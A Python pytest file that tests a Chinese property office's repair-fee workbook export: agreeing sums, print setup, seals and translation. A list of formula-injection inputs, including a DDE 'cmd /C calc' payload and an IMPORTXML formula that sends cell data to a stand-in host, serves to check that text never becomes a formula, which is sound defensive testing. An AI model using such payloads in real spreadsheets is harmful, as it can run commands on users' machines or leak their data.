"""《有偿维修费用汇总表》 as a workbook: live sums that agree, text that stays text."""

import html
import io
import re
import zipfile
from dataclasses import fields, replace
from decimal import Decimal
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils import column_index_from_string
from openpyxl.utils.escape import unescape

from models.statement import Section, Statement
from models.text import translator, untranslated
from reports.statement_xlsx import write_xlsx
from tests.reports.spreadsheet import ERRORS, Sheets, printed, reckoned
from tests.reports.statements import (
    CHAIN,
    HASH,
    OFFICE,
    december,
    empty,
    large,
    local,
    make_batch,
    november,
)
from tests.reports.test_sheet import HOSTILE

SHEETS = ["汇总", "A", "B", "C", "收款", "减免", "余额", "移交"]
CHINESE = translator("zh_CN")
MORE_HOSTILE = (
    "=SUM(A1:A9)*-1",
    "@x",
    "-2+3+cmd|' /C calc'!A0",
    "+44 20 7946 0018",
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
    "＝1+1",
    "{=1}",
    "\n=1",
    " =1",
    '"=1"',
)
"""With those of the sheets they are thirty."""
PLAIN = {
    "2026-11": november,
    "2026-12": december,
    "empty": empty,
    "sixty": lambda: large(60),
}
"""Statements that are written as they are."""


def written(statement: Statement, translate: Any = CHINESE) -> bytes:
    out = io.BytesIO()
    write_xlsx(statement, OFFICE, out, translate)
    return out.getvalue()


def opened(content: bytes, *, as_values: bool = False) -> Any:
    return load_workbook(io.BytesIO(content), data_only=as_values)


def row_of(sheet: Any, title: str, column: int = 1) -> list[Any]:
    """The cells of the row that begins with a text."""
    for row in sheet.iter_rows():
        if row[column - 1].value == title:
            return [cell.value for cell in row]
    raise AssertionError(title)


def money(value: object) -> str:
    return f"{Decimal(str(value)):.2f}"


@pytest.fixture(scope="module")
def anew(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Sheets]:
    """The workbooks of this file as a spreadsheet reckons them."""
    books = {name: written(make()) for name, make in PLAIN.items()}
    books["changed"] = _with_a_changed_figure()
    books["late bundle"] = written(_with_a_late_bundle())
    books["hostile"] = written(_with_hostile_slips())
    return reckoned(books, tmp_path_factory.mktemp("reckoned"))


def _with_a_changed_figure() -> bytes:
    book = opened(written(november()))
    place = next(cell for cell in book["A"][6][-6:] if cell.value == 120)
    place.value = 121
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _with_a_late_bundle() -> Statement:
    statement = november()
    late = make_batch(3, "2026-11-23 09:50", 1, "80")
    return replace(statement, batches=(*statement.batches, late))


def _with_hostile_slips() -> Statement:
    statement = november()
    slips = tuple(
        replace(slip, content="=1+1", owner_name="@SUM(1,1)", room="-3+4")
        for slip in statement.slips
    )
    return replace(statement, slips=slips)


def test_the_sheets_have_exactly_their_names_in_their_order() -> None:
    assert opened(written(november())).sheetnames == SHEETS


NOVEMBER = {
    "期初未收": (None, None, "0.00"),
    "加：应收": ("1705.49", "80.00", "1785.49"),
    "减：减免": ("999.99", "0.00", "999.99"),
    "加减：调整": ("0.00", "0.00", "0.00"),
    "减：实收": ("405.00", "80.00", "485.00"),
    "加：退款": ("0.00", "0.00", "0.00"),
    "期末未收": (None, None, "300.50"),
}
DECEMBER = {
    "期初未收": (None, None, "300.50"),
    "加：应收": ("45.00", "325.00", "370.00"),
    "减：减免": ("0.00", "0.00", "0.00"),
    "加减：调整": ("0.00", "-50.00", "-50.00"),
    "减：实收": ("45.00", "460.00", "505.00"),
    "加：退款": ("0.00", "50.00", "50.00"),
    "期末未收": (None, None, "165.50"),
}
NOTHING = {
    title: tuple(None if each is None else "0.00" for each in amounts)
    for title, amounts in NOVEMBER.items()
}


@pytest.mark.parametrize(
    ("name", "sums"),
    [("2026-11", NOVEMBER), ("2026-12", DECEMBER), ("empty", NOTHING)],
)
def test_the_sums_are_those_of_the_worked_example_also_reckoned_anew(
    name: str, sums: dict[str, tuple[str | None, ...]], anew: dict[str, Sheets]
) -> None:
    kept = opened(written(PLAIN[name]()), as_values=True)["汇总"]
    for sheet in (kept, anew[name]["汇总"]):
        for title, amounts in sums.items():
            _, own, earlier, total, program, verdict, *_ = row_of(sheet, title)
            for cell, amount in zip((own, earlier, total), amounts, strict=True):
                assert cell is None if amount is None else money(cell) == amount
            assert money(program) == amounts[2]
            assert verdict == "平"


@pytest.mark.parametrize("name", PLAIN)
def test_every_formula_comes_to_what_the_file_says_it_does(
    name: str, anew: dict[str, Sheets]
) -> None:
    content = written(PLAIN[name]())
    live, kept = opened(content), opened(content, as_values=True)
    seen = 0
    for sheet in live.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type != "f":
                    continue
                seen += 1
                known = kept[sheet.title][cell.coordinate].value
                found = anew[name][sheet.title][cell.coordinate].value
                where = f"{sheet.title}!{cell.coordinate} {cell.value}"
                if isinstance(known, str):
                    assert (known, found) == ("平", "平"), where
                else:
                    assert money(known) == money(found), where
    assert seen > 80


def test_a_figure_that_was_changed_in_a_list_is_seen_at_once(
    anew: dict[str, Sheets],
) -> None:
    sums = anew["changed"]["汇总"]
    line = row_of(sums, "加：应收")
    assert (money(line[1]), line[5]) == ("1706.49", "不平")
    assert row_of(sums, "期末未收")[5] == "不平"


def test_no_page_shows_a_cell_that_is_too_narrow_or_wrong(tmp_path: Path) -> None:
    big = Decimal("98765432.10")
    statement = november()
    slips = tuple(
        replace(slip, labour=big, charged=big, balance=-big) for slip in statement.slips
    )
    text = printed(written(replace(statement, slips=slips)), tmp_path)
    assert "98,765,432.10" in text
    assert "1,086,419,753.10" in text  # eleven of them
    assert not [each for each in ERRORS if each in text]


def test_money_and_times_are_numbers_and_dates() -> None:
    sheet = opened(written(november()))["A"]
    heads = [cell.value for cell in sheet[5]]
    first = dict(zip(heads, sheet[6], strict=True))
    assert first["应收"].value == 120 and first["应收"].data_type == "n"
    issued = first["派发时间"]
    assert issued.is_date
    assert issued.value.isoformat(sep=" ") == "2026-10-21 00:00:00"
    assert first["单号"].data_type == "s"


def test_the_second_of_an_issue_is_kept() -> None:
    sheet = opened(written(november()))["A"]
    heads = [cell.value for cell in sheet[5]]
    column = heads.index("派发时间")
    times = {row[1].value: row[column].value for row in sheet.iter_rows(6, 16)}
    assert times["WX261120-009"].isoformat(sep=" ") == "2026-11-20 23:59:59"


@pytest.mark.parametrize(
    ("sheet", "count"),
    [("A", 11), ("B", 1), ("C", 3), ("收款", 5), ("减免", 2), ("余额", 4), ("移交", 2)],
)
def test_every_list_counts_its_rows_alive_and_by_the_program(
    sheet: str, count: int
) -> None:
    content = written(november())
    live = row_of(opened(content)[sheet], "合计")
    kept = row_of(opened(content, as_values=True)[sheet], "合计")
    assert live[1] == f"=COUNTA(B6:B{5 + count})"
    assert kept[1:4] == [count, count, "平"]
    assert f"共 {count} 行" in opened(content)[sheet]["A3"].value


def test_an_empty_list_counts_nothing_and_says_so(anew: dict[str, Sheets]) -> None:
    sheets = anew["empty"]
    for title in SHEETS[1:]:
        assert sheets[title]["A6"].value == "（无）"
        assert row_of(sheets[title], "合计")[1:4] == [0, 0, "平"]


def test_the_identities_stand_with_both_sides_and_their_verdicts() -> None:
    rows = opened(written(november()), as_values=True)["汇总"].iter_rows()
    found = {
        row[0].value[0]: [cell.value for cell in row[7:11]]
        for row in rows
        if isinstance(row[0].value, str) and row[0].value[0] in "①②③④⑤"
    }
    assert found == {
        "①": ["14", "14", "平", "平"],
        "②": ["300.50", "300.50", "平", "平"],
        "③": ["485.00", "485.00", "平", "平"],
        "④": ["12", "12", "平", "平"],
        "⑤": ["300.50", "300.50", "平", "平"],
    }


def test_books_that_do_not_agree_are_called_so() -> None:
    statement = november()
    first, *others = statement.identities
    wrong = replace(statement, identities=(replace(first, right="13"), *others))
    texts = _texts(opened(written(wrong))["汇总"])
    assert "不平" in texts


def _texts(sheet: Any) -> list[str]:
    return [
        cell.value
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def test_capitals_ended_numbers_and_gap_cases_are_told() -> None:
    texts = _texts(opened(written(november()))["汇总"])
    assert "人民币壹仟柒佰捌拾伍元肆角玖分" in texts
    assert "人民币叁佰元零伍角整" in texts
    assert {"WX261105-001", "WX261107-002", "WX261112-004/2/1"} <= set(texts)
    assert "已收款未见单" in _texts(opened(written(november()))["C"])


def test_a_closed_statement_carries_its_seal_and_an_open_one_says_it_is_open() -> None:
    closed, still_open = opened(written(november())), opened(written(empty()))
    for sheet in closed.worksheets:
        foot = sheet.oddFooter.left.text + sheet.oddFooter.right.text
        assert HASH in foot and CHAIN in foot
        assert "已关账 2026-11-23 10:00:00" in foot
        assert "&P" in foot and "&N" in foot
    texts = " ".join(_texts(closed["汇总"]))
    assert HASH in texts and CHAIN in texts
    for sheet in still_open.worksheets:
        assert "未关账" in sheet.oddFooter.left.text
    texts = " ".join(_texts(still_open["汇总"]))
    assert "未关账" in texts and "2026-12-22 09:30:00" in texts


def test_heads_and_feet_are_never_longer_than_a_spreadsheet_takes() -> None:
    named = replace(OFFICE, settings=replace(OFFICE.settings, version="&" * 300))
    out = io.BytesIO()
    write_xlsx(november(), named, out, CHINESE)
    package = zipfile.ZipFile(out)
    for name in package.namelist():
        if "worksheets/" not in name:
            continue
        xml = package.read(name).decode()
        found = re.search("<oddFooter>(.*?)</oddFooter>", xml, re.S)
        assert found is not None
        foot = html.unescape(found[1])
        assert len(foot) <= 255
        assert "已关账 2026-11-23 10:00:00" in foot


def test_each_sheet_prints_on_a4_landscape_with_its_heads_on_every_page() -> None:
    book = opened(written(november()))
    for sheet in book.worksheets:
        setup = sheet.page_setup
        assert (setup.paperSize, setup.orientation) == (9, "landscape")
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert setup.fitToWidth == 1
        assert sheet["A1"].value == "云栖雅苑物业服务中心　有偿维修费用汇总表"
        assert "制表（管家部）：" in " ".join(_texts(sheet))
    for title in SHEETS[1:]:
        assert book[title].print_title_rows == "$1:$5"
        assert book[title].freeze_panes == "C6"
    assert "A4:A5" in {str(each) for each in book["A"].merged_cells.ranges}
    period = "结算期 2026-11：自 2026-10-21 00:00 起，至 2026-11-21 00:00 止（不含）"
    assert all(period in sheet["A2"].value for sheet in book.worksheets)


def test_the_same_statement_gives_the_same_bytes() -> None:
    assert written(november()) == written(november())
    assert written(november()) != written(november(is_closed=False))


def test_a_long_month_is_whole_and_its_long_texts_have_room() -> None:
    statement = large(3000)
    long = "客厅吊灯、厨房水槽与卫生间地漏同时报修" * 4
    slips = (replace(statement.slips[0], content=long), *statement.slips[1:])
    book = opened(written(replace(statement, slips=slips)))
    rows = len(statement.section(Section.A))
    assert row_of(book["A"], "合计")[2] == rows
    assert book["A"].row_dimensions[6].height > 6 * 12
    numbers = [row[1].value for row in book["A"].iter_rows(6, 5 + rows)]
    assert numbers == [slip.number for slip in statement.section(Section.A)]


def test_a_bundle_for_an_earlier_statement_is_left_out_of_the_count(
    anew: dict[str, Sheets],
) -> None:
    sheets = anew["late bundle"]
    rows = {row[0].value: row for row in sheets["汇总"].iter_rows() if row[0].value}
    tie = next(row for text, row in rows.items() if str(text).startswith("④"))
    assert [cell.value for cell in tie[7:11]] == ["12", "12", "平", "平"]
    assert row_of(sheets["移交"], "合计")[5] == 11


@pytest.mark.parametrize("hostile", [*HOSTILE, *MORE_HOSTILE])
def test_no_text_of_any_field_becomes_a_formula(hostile: str) -> None:
    statement = november()
    changed: dict[str, Any] = _hostile_fields(statement, hostile)
    for name in ("slips", "entries", "balances", "batches", "gaps"):
        changed[name] = tuple(
            replace(each, **_hostile_fields(each, hostile))
            for each in getattr(statement, name)
        )
    changed["identities"] = tuple(
        replace(each, left=hostile, right=hostile) for each in statement.identities
    )
    after = opened(written(replace(statement, **changed)))
    assert _formulas(after) == _formulas_of_november()
    texts = {unescape(text) for sheet in after.worksheets for text in _texts(sheet)}
    assert hostile.replace("\r", "") in texts


def _hostile_fields(record: Any, text: str) -> dict[str, Any]:
    """Every field of a record that holds text, but what its number is."""
    return {
        each.name: text
        for each in fields(record)
        if type(getattr(record, each.name)) is str and each.name != "period"
    }


@cache
def _formulas_of_november() -> list[tuple[str, str, str]]:
    return _formulas(opened(written(november())))


def _formulas(book: Any) -> list[tuple[str, str, str]]:
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_a_spreadsheet_does_not_run_a_hostile_text_either(
    anew: dict[str, Sheets],
) -> None:
    row = [cell.value for cell in anew["hostile"]["A"][6]]
    assert row[2:5] == ["-3+4", "@SUM(1,1)", "=1+1"]


def test_what_a_workbook_cannot_hold_is_left_out() -> None:
    statement = november()
    slips = (
        replace(statement.slips[0], content="漏\x00水\ud800", owner_name="\ufffe"),
        *statement.slips[1:],
    )
    sheet = opened(written(replace(statement, slips=slips)))["A"]
    assert [sheet["D6"].value or "", sheet["E6"].value] == ["", "漏水"]


def test_it_speaks_english_too() -> None:
    book = opened(written(november(), untranslated), as_values=True)
    assert book.sheetnames == SHEETS
    line = row_of(book["汇总"], "= Owed at the end")
    assert (money(line[3]), line[5]) == ("300.50", "agrees")
    assert row_of(book["收款"], "of which Cash")[11] == 180


def test_the_file_says_when_the_statement_was_closed() -> None:
    properties = opened(written(november())).properties
    assert properties.creator == "Silian"
    utc = local("2026-11-23 10:00").astimezone().utctimetuple()
    assert properties.created.timetuple()[:6] == utc[:6]


@pytest.mark.parametrize(
    "statement", [november(), empty(), large(60)], ids=["2026-11", "empty", "sixty"]
)
def test_joined_cells_do_not_overlap_and_hide_nothing(statement: Statement) -> None:
    """A spreadsheet offers to repair a file whose joined cells overlap."""
    content = written(statement)
    for sheet in opened(content).worksheets:
        joined = [
            (row, column)
            for area in sheet.merged_cells.ranges
            for row in range(area.min_row, area.max_row + 1)
            for column in range(area.min_col, area.max_col + 1)
        ]
        assert len(joined) == len(set(joined)), sheet.title
        corners = {(area.min_row, area.min_col) for area in sheet.merged_cells.ranges}
        hidden = set(joined) - corners
        package = zipfile.ZipFile(io.BytesIO(content))
        part = f"xl/worksheets/sheet{SHEETS.index(sheet.title) + 1}.xml"
        filled = re.findall(r'<c r="([A-Z]+)(\d+)"[^>/]*>', package.read(part).decode())
        assert not hidden & {
            (int(row), column_index_from_string(letters)) for letters, row in filled
        }
